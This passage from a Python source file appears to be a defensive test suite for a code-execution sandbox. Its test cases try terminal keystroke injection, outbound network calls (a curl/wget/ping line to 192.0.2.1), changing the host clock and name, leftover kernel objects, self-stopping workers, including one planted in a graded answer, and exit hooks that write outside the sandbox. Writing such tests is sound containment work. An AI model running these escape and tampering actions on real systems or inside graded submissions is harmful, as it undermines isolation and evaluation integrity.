                tried("TIOCSTI", fcntl.ioctl, fd, termios.TIOCSTI, b"x")
                tried("TIOCLINUX", fcntl.ioctl, fd, 0x541C, b"\x03")
                tried("control", fcntl.ioctl, fd, termios.TIOCSCTTY, 1)
        """),
    ),
    attack(
        "sockets",
        "Sockets of every family are opened, connected, bound and written to: tests would be carried out by them.",
        trying(r"""
            import socket, urllib.request
            for name in sorted(name for name in dir(socket) if name.startswith("AF_")):
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
                    tried(name, lambda: socket.socket(getattr(socket, name), kind).close())
            for address in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("192.0.2.1", 80), ("::1", 80)):
                family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
                def connect():
                    with socket.socket(family, socket.SOCK_STREAM) as one:
                        one.settimeout(0.3)
                        one.connect(address)
                tried("connect", connect)
                tried("datagram", lambda: socket.socket(family, socket.SOCK_DGRAM).sendto(b"x", address))
                tried("fast open", lambda: socket.socket(family, socket.SOCK_STREAM).sendto(b"x", 0x20000000, address))
            def bind():
                one = socket.socket()
                one.bind(("0.0.0.0", 0))
                one.listen()
                return one
            kept = tried("bind", bind)
            tried("unix", lambda: socket.socket(socket.AF_UNIX).bind("{outside}/socket"))
            tried("abstract", lambda: socket.socket(socket.AF_UNIX).bind("\0hostile"))
            tried("pair out", lambda: socket.socketpair()[1].sendto(b"x", "{outside}/socket"))
            for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                tried("pair of another kind", lambda: socket.socketpair(socket.AF_UNIX, kind)[0].connect("{outside}/socket"))
            for name in ("example.invalid", "localhost"):
                tried("name", socket.getaddrinfo, name, 80)
            tried("http", urllib.request.urlopen, "http://192.0.2.1/", None, 0.3)
        """),
        "!curl -m 1 http://192.0.2.1/ ; wget -T 1 http://192.0.2.1/ ; ping -c1 -W1 192.0.2.1",
        "%pip install --no-index hostile",
    ),
    attack(
        "shared-objects-left",
        "Objects of the kernel that outlive their maker are left: System V memory, queues, semaphores, POSIX "
        "ones, keys.",
        calling(r"""
            from multiprocessing import shared_memory
            tried("shm", lambda: libc.shmget(0x486F73, 4096, 0o1666) < 0 and 1 / 0)
            tried("msg", lambda: libc.msgget(0x486F73, 0o1666) < 0 and 1 / 0)
            tried("sem", lambda: libc.semget(0x486F73, 1, 0o1666) < 0 and 1 / 0)
            tried("mq", call, "mq_open", b"hostile", 0o102, 0o600, None)
            tried("posix", lambda: shared_memory.SharedMemory("hostile", create=True, size=4096))
            tried("file", lambda: open("/dev/shm/hostile", "w").write("x"))
            def semaphore():
                rt = ctypes.CDLL("libpthread.so.0")
                rt.sem_open.restype = ctypes.c_void_p
                if not rt.sem_open(b"/hostile", 0o100, 0o600, 1):
                    raise OSError("no semaphore")
            tried("semaphore", semaphore)
        """),
    ),
    attack(
        "clock-and-name-set",
        "The machine's clock, name, swap and accounting are changed.",
        calling(r"""
            import socket
            tried("clock", time.clock_settime, time.CLOCK_REALTIME, time.time() + 1e6)
            tried("adjust", lambda: libc.adjtimex((ctypes.c_long * 32)(0x2000, 1)) and 1 / 0)
            tried("name", socket.sethostname, "hostile")
            tried("domain", lambda: libc.setdomainname(b"hostile", 7) and 1 / 0)
            tried("accounting", lambda: libc.acct(b"{outside}/acct") and 1 / 0)
            tried("swap", lambda: libc.swapoff(b"/swapfile") and 1 / 0)
        """),
    ),
    attack(
        "crash-with-open-files",
        "The process crashes in several ways that leave half-made things behind: core files, locks, temporary folders.",
        calling(r"""
            import tempfile
            kept = [tempfile.mkdtemp(dir=place) for place in ("/tmp", "/var/tmp", "/dev/shm")
                    if tried("folder in " + place, os.access, place, os.W_OK)]
            ctypes.string_at(0)
        """),
        "import os\nos.kill(os.getpid(), 11)",
        "import numpy as np\nfrom numpy.lib.stride_tricks import as_strided\nas_strided(np.zeros(1), (10**9,), (4096,)).sum()",
    ),
    attack(
        "stops-itself",
        "The worker sends itself the signals that stop a process without ending it, and blocks the ones that end it.",
        trying(r"""
            import signal
            for number in (signal.SIGTSTP, signal.SIGTTIN, signal.SIGTTOU, signal.SIGSTOP):
                tried(str(number), os.kill, os.getpid(), number)
        """),
        answers={
            "gradient_profile": "def gradient_slope(d):\n    import os, signal\n    os.kill(os.getpid(), signal.SIGSTOP)"
        },
    ),
    attack(
        "last-words",
        "Whatever Python calls when a process, a thread, an object or a module ends writes outside.",
        trying(r"""
            import atexit, faulthandler, gc, signal, threading, weakref
            from multiprocessing import util

            def leave(how="", *args):
                for place in ("{outside}", "/tmp", "/dev/shm", os.path.expanduser("~/.."), ".."):
                    try:
                        os.close(os.open(os.path.join(place, "last-words-" + str(how)), os.O_CREAT | os.O_WRONLY))
                    except OSError:
                        pass
                try:
                    with open("{canary}", "a") as file:
                        file.write("last words")
                except OSError:
                    pass

            class Mortal:
                def __del__(self):
                    leave("object")

            sys.mortal = Mortal()
            weakref.finalize(sys.mortal, leave, "weakref")
            atexit.register(leave, "atexit")
            tried("threads", threading._register_atexit, leave, "threading")
            tried("multiprocessing", util.Finalize, None, leave, ("multiprocessing",), None, 100)
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGPIPE, signal.SIGXCPU, signal.SIGALRM):
                tried("signal", signal.signal, number, lambda number, frame: leave("signal"))
            sys.excepthook = threading.excepthook = sys.unraisablehook = lambda *args: leave("hook")
            gc.callbacks.append(lambda phase, info: leave("gc"))
            tried("faulthandler", lambda: faulthandler.enable(open("{outside}/fault", "w")))
        """),
    ),
)
